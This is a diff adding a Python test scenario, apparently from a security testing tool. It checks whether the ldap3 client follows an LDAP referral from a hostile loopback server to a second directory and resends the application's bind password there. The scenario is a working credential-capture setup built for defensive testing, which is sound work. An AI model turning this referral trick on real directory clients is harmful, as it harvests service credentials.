@@ -1,0 +1,67 @@
+"""C9: a directory refers the client to another one, and the client logs in there with the same password."""
+
+from typing import Any
+
+from backwatch.attack.authority import Authority
+from backwatch.attack.protocols.ldap import BASE, LDAP
+from backwatch.attack.protocols.server import LOOPBACK, HostileServer
+from backwatch.attack.scenarios import SECRET, Scenario
+
+
+class _Referring(LDAP):
+    def __init__(self, authority: Authority) -> None:
+        super().__init__(authority)
+        self.elsewhere = LDAP(authority, at_once=True)
+        self.elsewhere.taken = self.elsewhere.kept.append
+        self.referral = b"ldaps://%s:%d/%s" % (LOOPBACK.encode(), self.elsewhere.port, BASE)
+
+    def start(self) -> None:
+        self.elsewhere.start()
+        super().start()
+
+    def stop(self) -> None:
+        super().stop()
+        self.elsewhere.stop()
+
+
+class LdapReferral(Scenario):
+    """On ldap3, which chases referrals, to any host and with the app's own login, unless it is told not to."""
+
+    code = "C9"
+    attack = "refers the app to another directory, which is sent the password"
+    reference = "https://datatracker.ietf.org/doc/html/rfc4511#section-4.1.10; ATT&CK T1557"
+    driver = "ldap3"
+    rule = "redirected"
+
+    @classmethod
+    def service(cls, authority: Authority) -> HostileServer:
+        """It refers."""
+        return _Referring(authority)
+
+    def work(self) -> None:
+        """Looks a customer up."""
+        self.meet()
+
+    def meet(self) -> object:
+        """The same."""
+        import ssl
+
+        import ldap3
+
+        tls = ldap3.Tls(validate=ssl.CERT_REQUIRED, ca_certs_file=self.config.ca_file)
+        server = ldap3.Server("localhost", port=self.config.port, tls=tls, get_info=ldap3.NONE, connect_timeout=5)
+        connection: Any = ldap3.Connection(
+            server, f"cn=shop,{BASE.decode()}", SECRET, auto_bind=ldap3.AUTO_BIND_TLS_BEFORE_BIND, receive_timeout=5
+        )
+        try:
+            connection.search(BASE.decode(), "(uid=ann)", attributes=["mail"])
+            return [str(one.mail) for one in connection.entries]
+        finally:
+            connection.unbind()
+
+    @classmethod
+    def succeeded(cls, service: HostileServer, got: object) -> bool:
+        """The other directory was sent the password."""
+        del got
+        assert isinstance(service, _Referring)
+        return any(SECRET.encode() in said for said in service.elsewhere.kept)
